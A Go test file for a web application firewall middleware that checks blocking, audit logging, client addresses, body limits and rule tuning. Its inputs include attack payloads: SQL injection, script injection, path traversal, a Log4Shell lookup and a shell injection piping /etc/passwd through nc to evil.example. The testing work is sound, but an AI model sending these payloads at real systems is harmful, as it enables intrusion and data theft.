package waf_test

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/surety-go/surety/auditlog"
	"github.com/surety-go/surety/controls"
	"github.com/surety-go/surety/guard"
	"github.com/surety-go/surety/guard/clientip"
	"github.com/surety-go/surety/ratelimit/waf"
)

// recorder keeps events; when fail is set it refuses them.
type recorder struct {
	mu     sync.Mutex
	events []auditlog.Event
	fail   error
}

func (r *recorder) Record(ctx context.Context, ev auditlog.Event) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.fail != nil {
		return r.fail
	}
	e, err := auditlog.Stamp(ctx, ev)
	r.events = append(r.events, e.Event)
	return err
}

// find returns the reasons of an action's events, and forgets all events.
func (r *recorder) find(action string) []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	var reasons []string
	for _, ev := range r.events {
		if ev.Action == action {
			reasons = append(reasons, ev.Reason)
		}
	}
	r.events = nil
	return reasons
}

func firewall(t testing.TB, rec auditlog.Recorder, o waf.Options) *waf.Firewall {
	t.Helper()
	fw, err := waf.New(rec, o)
	if err != nil {
		t.Fatal(err)
	}
	return fw
}

// serve puts the firewall into a guarded route that echoes the body.
func serve(t testing.TB, rec auditlog.Recorder, fw *waf.Firewall, base ...guard.Guard) http.Handler {
	t.Helper()
	echo := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, err := io.ReadAll(r.Body)
		if err != nil {
			t.Errorf("the handler can't read the body: %v", err)
		}
		_, _ = w.Write(append([]byte("echo "), b...))
	})
	mux, err := guard.NewMux(append([]guard.Guard{guard.Audit(rec)}, base...), guard.Route{
		Pattern: "/", Action: "test.echo", Guards: []guard.Guard{guard.Public("test")}, Handler: fw.Middleware(echo),
	})
	if err != nil {
		t.Fatal(err)
	}
	return mux
}

func ask(h http.Handler, method, target, body string, header ...string) *httptest.ResponseRecorder {
	r := httptest.NewRequest(method, target, strings.NewReader(body))
	r.Header.Set("User-Agent", "test")
	r.Header.Set("Accept", "*/*")
	if body != "" {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	for i := 0; i+1 < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	return w
}

func TestAttacksAreRefusedAndTheRestIsNot(t *testing.T) {
	rec := &recorder{}
	h := serve(t, rec, firewall(t, rec, waf.Options{}))
	for name, w := range map[string]*httptest.ResponseRecorder{
		"SQL in a query":  ask(h, "GET", "/?id=1%27%20OR%20%271%27=%271", ""),
		"SQL in a form":   ask(h, "POST", "/", "id=1' OR '1'='1"),
		"SQL in JSON":     ask(h, "POST", "/", `{"id":"1' OR '1'='1"}`, "Content-Type", "application/json"),
		"script":          ask(h, "GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
		"path":            ask(h, "GET", "/?f=../../../../etc/passwd", ""),
		"shell":           ask(h, "POST", "/", "cmd=;cat /etc/passwd|nc evil.example 1"),
		"scanner":         ask(h, "GET", "/", "", "User-Agent", "sqlmap/1.0"),
		"header":          ask(h, "GET", "/", "", "X-A", "${jndi:ldap://evil.example/a}"),
		"encoded twice":   ask(h, "GET", "/?q=%253Cscript%253Ealert(1)%253C/script%253E", ""),
		"broken JSON":     ask(h, "POST", "/", `{"id":`, "Content-Type", "application/json"),
		"broken boundary": ask(h, "POST", "/", "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx", "Content-Type", "multipart/form-data; boundary=y"),
	} {
		want := http.StatusForbidden
		if strings.HasPrefix(name, "broken") {
			want = http.StatusBadRequest // a mistake more often than an attack
		}
		if w.Code != want || strings.Contains(w.Body.String(), "echo") {
			t.Errorf("%s: %d %s", name, w.Code, w.Body)
		}
		if w.Header().Get("Content-Type") != "application/problem+json" {
			t.Errorf("%s: %v", name, w.Header())
		}
	}
	for name, w := range map[string]*httptest.ResponseRecorder{
		"plain":      ask(h, "GET", "/?q=spring+flowers", ""),
		"form":       ask(h, "POST", "/", "comment=I'll select one or two flowers from the garden"),
		"JSON":       ask(h, "POST", "/", `{"name":"O'Brien","tags":["a","b"]}`, "Content-Type", "application/json"),
		"other text": ask(h, "GET", "/?q=%C3%BCber+%E6%B0%B4", ""),
	} {
		if w.Code != http.StatusOK || !strings.HasPrefix(w.Body.String(), "echo") {
			t.Errorf("%s: %d %s", name, w.Code, w.Body)
		}
	}
}

// One refusal is one outcome of the call; each rule is an event; nothing of
// the request stands in any.
func TestEventsNameRulesAndQuoteNothing(t *testing.T) {
	rec := &recorder{}
	h := serve(t, rec, firewall(t, rec, waf.Options{}))
	ask(h, "GET", "/?mark=quoted-secret%27%20OR%20%271%27=%271%27%20UNION%20SELECT%201--", "", "X-Mark", "quoted-secret")
	for _, ev := range rec.events {
		e, err := auditlog.Stamp(t.Context(), ev)
		if err != nil {
			t.Fatal(err)
		}
		b, err := e.AppendJSON(nil)
		if err != nil || bytes.Contains(b, []byte("quoted")) {
			t.Errorf("%s, %v", b, err)
		}
		if ack := auditlog.DefaultTable().Ack(&ev); ev.Action == "ratelimit.waf.match" && ack != auditlog.Aggregated {
			t.Errorf("a flood of %s is written one by one: %v", ev.Reason, ack)
		}
	}
	if calls := rec.find("test.echo"); !slices.Equal(calls, []string{"ratelimit.waf"}) {
		t.Errorf("the call's reasons: %q", calls)
	}
	ask(h, "GET", "/?id=1%27%20OR%20%271%27=%271", "")
	if got := rec.find("ratelimit.waf.match"); !slices.Contains(got, "ratelimit.waf.r942100") || !slices.Contains(got, "ratelimit.waf.r949110") {
		t.Errorf("rules: %q", got)
	}
}

// Attack: a request that matches hundreds of rules, to fill the log.
func TestEventsOfOneRequestAreBounded(t *testing.T) {
	rec := &recorder{}
	h := serve(t, rec, firewall(t, rec, waf.Options{Detect: true, Paranoia: 4}))
	ask(h, "POST", "/?a=../../etc/passwd&b=%3Cscript%3E&c=%27%20OR%201=1--", "d=;cat /etc/passwd&e=${jndi:ldap://x}&f=<?php system('id');?>&g=() { :;}; /bin/sh&h=UNION SELECT 1,2,3 FROM users",
		"User-Agent", "sqlmap nikto", "X-A", "<script>alert(1)</script>")
	got := rec.find("ratelimit.waf.match")
	if len(got) != 17 || got[16] != "ratelimit.waf" {
		t.Errorf("%d events: %q", len(got), got)
	}
}

func TestDetectRefusesNothingAndSaysSo(t *testing.T) {
	rec := &recorder{}
	fw := firewall(t, rec, waf.Options{Detect: true})
	h := serve(t, rec, fw)
	if w := ask(h, "GET", "/?id=1%27%20OR%20%271%27=%271", ""); w.Code != 200 {
		t.Errorf("%d %s", w.Code, w.Body)
	}
	for _, ev := range rec.events {
		if ev.Outcome != auditlog.Success {
			t.Errorf("event %+v", ev)
		}
	}
	if got := rec.find("ratelimit.waf.match"); !slices.Contains(got, "ratelimit.waf.r942100") {
		t.Errorf("rules: %q", got)
	}
	if r := fw.Controls()[0].Probe(t.Context()); r.State != controls.Fail || !strings.Contains(r.Observed, "detect") {
		t.Errorf("a firewall that stops nobody: %+v", r)
	}
}

// The client is who guard/clientip says, without brackets: Coraza's own
// handler takes "[2001:db8::1]" from RemoteAddr, which matches no range.
func TestClientAddress(t *testing.T) {
	deny := `SecRule REMOTE_ADDR "@ipMatch 2001:db8::/32,203.0.113.0/24" "id:10001,phase:1,deny,status:403,log,msg:'a range'"`
	rec := &recorder{}
	behind, err := clientip.New(clientip.Options{Trusted: []netip.Prefix{netip.MustParsePrefix("192.0.2.0/24")}})
	if err != nil {
		t.Fatal(err)
	}
	h := serve(t, rec, firewall(t, rec, waf.Options{Before: deny}), behind)
	for name, tc := range map[string]struct {
		remote, forwarded string
		want              int
	}{
		"IPv6 peer":            {"[2001:db8::1]:4711", "", 403},
		"IPv6 peer with zone":  {"[fe80::1%eth0]:4711", "", 200},
		"IPv4 peer":            {"203.0.113.7:4711", "", 403},
		"IPv4-mapped":          {"[::ffff:203.0.113.7]:4711", "", 403},
		"behind the proxy":     {"192.0.2.10:4711", "203.0.113.7", 403},
		"IPv6 behind it":       {"192.0.2.10:4711", "2001:db8::7", 403},
		"forged by a stranger": {"198.51.100.1:4711", "203.0.113.7", 200},
		"another":              {"198.51.100.1:4711", "", 200},
	} {
		r := httptest.NewRequest("GET", "/", nil)
		r.RemoteAddr = tc.remote
		r.Header.Set("User-Agent", "test")
		r.Header.Set("Accept", "*/*")
		if tc.forwarded != "" {
			r.Header.Set("X-Forwarded-For", tc.forwarded)
		}
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		if w.Code != tc.want {
			t.Errorf("%s: %d, want %d", name, w.Code, tc.want)
		}
	}
}

// A body that breaks off is refused: Coraza's own handler answers an empty
// 200, which looks like success to whoever sent it.
func TestBrokenBodyIsNoSuccess(t *testing.T) {
	rec := &recorder{}
	s := httptest.NewServer(serve(t, rec, firewall(t, rec, waf.Options{})))
	defer s.Close()
	for name, body := range map[string]string{
		"chunk without end": "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
		"cut short":         "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nab",
	} {
		conn, err := new(net.Dialer).DialContext(t.Context(), "tcp", s.Listener.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.WriteString(conn, body)
		if err := conn.(*net.TCPConn).CloseWrite(); err != nil {
			t.Fatal(err)
		}
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err == nil {
			if resp.StatusCode < 400 {
				t.Errorf("%s: %d", name, resp.StatusCode)
			}
			_ = resp.Body.Close()
		}
		_ = conn.Close()
	}
}

func TestBodyLimits(t *testing.T) {
	rec := &recorder{}
	small := serve(t, rec, firewall(t, rec, waf.Options{BodyLimit: 1 << 10}))
	part := serve(t, rec, firewall(t, rec, waf.Options{BodyLimit: 1 << 10, InspectPart: true}))
	long := "a=" + strings.Repeat("x", 3<<10)
	if w := ask(small, "POST", "/", long[:1<<10]); w.Code != 200 || w.Body.Len() != 5+1<<10 && w.Body.Len() != 5+(1<<10) {
		t.Errorf("a body of the limit: %d, %d bytes", w.Code, w.Body.Len())
	}
	if w := ask(small, "POST", "/", long); w.Code != 413 || !strings.Contains(w.Body.String(), `"limit":1024`) {
		t.Errorf("a longer one: %d %s", w.Code, w.Body)
	}
	r := httptest.NewRequest("POST", "/", io.MultiReader(strings.NewReader(long))) // of a length nobody declared
	r.ContentLength = -1
	w := httptest.NewRecorder()
	small.ServeHTTP(w, r)
	if w.Code != 413 {
		t.Errorf("an undeclared one: %d", w.Code)
	}
	if w := ask(part, "POST", "/", long); w.Code != 200 || w.Body.String() != "echo "+long {
		t.Errorf("inspected in part: %d, %d bytes", w.Code, w.Body.Len())
	}
	if w := ask(part, "POST", "/", "a=1' OR '1'='1&"+long); w.Code != 403 {
		t.Errorf("an attack in the part: %d", w.Code)
	}
	limited := serve(t, rec, firewall(t, rec, waf.Options{}), guard.Limits(512, 0))
	r = httptest.NewRequest("POST", "/", io.MultiReader(strings.NewReader(long)))
	r.ContentLength = -1
	w = httptest.NewRecorder()
	limited.ServeHTTP(w, r)
	if w.Code != 413 {
		t.Errorf("beyond the chain's own limit: %d", w.Code)
	}
}

// A match that can't be recorded is not let through.
func TestUnrecordedMatchIsRefused(t *testing.T) {
	fw := firewall(t, &recorder{fail: errors.New("disk full")}, waf.Options{Detect: true})
	h := serve(t, &recorder{}, fw)
	if w := ask(h, "GET", "/?id=1%27%20OR%20%271%27=%271", ""); w.Code != 503 || strings.Contains(w.Body.String(), "disk") {
		t.Errorf("%d %s", w.Code, w.Body)
	}
	if w := ask(h, "GET", "/?q=flowers", ""); w.Code != 200 {
		t.Errorf("a request without a match: %d", w.Code)
	}
}

func TestTuning(t *testing.T) {
	rec := &recorder{}
	attack := func(o waf.Options) int {
		return ask(serve(t, rec, firewall(t, rec, o)), "GET", "/?note=1%27%20OR%20%271%27=%271", "").Code
	}
	for name, tc := range map[string]struct {
		o    waf.Options
		want int
	}{
		"as it comes":    {waf.Options{}, 403},
		"before":         {waf.Options{Before: `SecRule REQUEST_FILENAME "@streq /" "id:10001,phase:1,pass,nolog,ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:note"`}, 200},
		"after":          {waf.Options{After: "SecRuleRemoveByTag attack-sqli"}, 200},
		"high threshold": {waf.Options{Threshold: 100}, 200},
	} {
		if got := attack(tc.o); got != tc.want {
			t.Errorf("%s: %d, want %d", name, got, tc.want)
		}
	}
}

func TestNewRefuses(t *testing.T) {
	rec := &recorder{}
	for want, o := range map[string]waf.Options{
		"Paranoia":    {Paranoia: 5},
		"Threshold":   {Threshold: 101},
		"BodyLimit":   {BodyLimit: 10},
		"SecNonsense": {Before: "SecNonsense on"},
		"10001":       {After: `SecRule ARGS "@rx (" "id:10001,phase:2,deny"`},
	} {
		if _, err := waf.New(rec, o); err == nil || !strings.Contains(strings.ToLower(err.Error()), strings.ToLower(want)) && want != "10001" {
			t.Errorf("%s: %v", want, err)
		}
	}
	if _, err := waf.New(nil, waf.Options{}); err == nil {
		t.Error("without a recorder")
	}
}

func TestControls(t *testing.T) {
	list := firewall(t, &recorder{}, waf.Options{Paranoia: 2, After: "# a remark\nSecRuleRemoveById 942100\n"}).Controls()
	got := make(map[string]string)
	for _, p := range list[0].Parameters {
		got[p.Name] = p.Value
	}
	if got["paranoia"] != "2" || got["threshold"] != "5" || got["mode"] != "refuse" || got["tuning_directives"] != "1" {
		t.Errorf("parameters %v", got)
	}
	if r := list[0].Probe(t.Context()); r.State != controls.Pass {
		t.Errorf("probe: %+v", r)
	}
	hole := firewall(t, &recorder{}, waf.Options{After: "SecRuleRemoveByTag attack-xss"})
	if r := hole.Controls()[0].Probe(t.Context()); r.State != controls.Fail || !strings.Contains(r.Observed, "script") {
		t.Errorf("a firewall with a hole: %+v", r)
	}
	wall := firewall(t, &recorder{}, waf.Options{Before: `SecAction "id:10001,phase:1,deny,status:403"`})
	if r := wall.Controls()[0].Probe(t.Context()); r.State != controls.Fail || !strings.Contains(r.Observed, "harmless") {
		t.Errorf("a firewall that refuses everything: %+v", r)
	}
}

// Requests at the same time are inspected each by itself.
func TestConcurrentRequests(t *testing.T) {
	rec := &recorder{}
	h := serve(t, rec, firewall(t, rec, waf.Options{}))
	var wg sync.WaitGroup
	for n := range 8 {
		wg.Go(func() {
			for range 20 {
				body, want := "comment=a walk in the park", 200
				if n%2 == 0 {
					body, want = "id=1' OR '1'='1", 403
				}
				if w := ask(h, "POST", "/", body); w.Code != want {
					t.Errorf("%q: %d", body, w.Code)
				}
			}
		})
	}
	wg.Wait()
}

// Whatever comes, the firewall neither panics nor changes what the handler
// reads.
func FuzzRequest(f *testing.F) {
	f.Add("/?q=1", "a=b", "application/x-www-form-urlencoded")
	f.Add("/%zz", `{"a":[1,{"b":null}]}`, "application/json")
	f.Add("//..;/", "--x\r\n\r\n--x--", "multipart/form-data; boundary=x")
	f.Add("/", "<a><b/></a>", "text/xml")
	rec := auditlog.RecorderFunc(func(context.Context, auditlog.Event) error { return nil })
	fw := firewall(f, rec, waf.Options{Detect: true, Paranoia: 4, BodyLimit: 1 << 10, InspectPart: true})
	f.Fuzz(func(t *testing.T, target, body, contentType string) {
		var read []byte
		h := fw.Middleware(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { read, _ = io.ReadAll(r.Body) }))
		r := httptest.NewRequest("POST", "/", strings.NewReader(body))
		r.RequestURI = target
		r.Header.Set("Content-Type", contentType)
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		if w.Code == 200 && string(read) != body {
			t.Errorf("the handler read %q of %q", read, body)
		}
	})
}
